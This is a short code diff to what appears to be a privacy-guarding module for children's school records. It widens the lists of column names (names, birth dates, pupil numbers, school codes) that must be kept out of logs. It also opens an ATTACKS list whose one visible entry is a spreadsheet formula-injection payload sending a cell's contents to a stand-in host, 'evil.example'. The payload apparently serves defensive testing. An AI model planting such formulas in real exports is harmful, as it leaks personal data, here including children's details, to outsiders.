@@ -26,10 +26,10 @@ from warehouse import load
 
 # What of a child must never stand in a log, by its column in any contract.
 NAMES = {"surname", "forename", "child_first_name", "child_last_name", "first_name", "last_name"}
-BIRTHDAYS = {"date_of_birth", "child_dob"}
+BIRTHDAYS = {"date_of_birth", "child_dob", "person_birth_date"}
 NUMBERS = {"upn", "former_upn", "child_upn", "uln"}
 OF_OTHERS = {"establishment_name", "named_urn", "named_placement_urn", "named_dfe_number", "named_placement_dfe_number",
-             "upn_unknown_reason"}  # of schools, and a code  # fmt: skip
+             "upn_unknown_reason", "upn_unknown", "named_plan_table_id"}  # of schools, and codes and keys  # fmt: skip
 
 ATTACKS = (
     '=HYPERLINK("http://evil.example/?"&A1,"{}")',
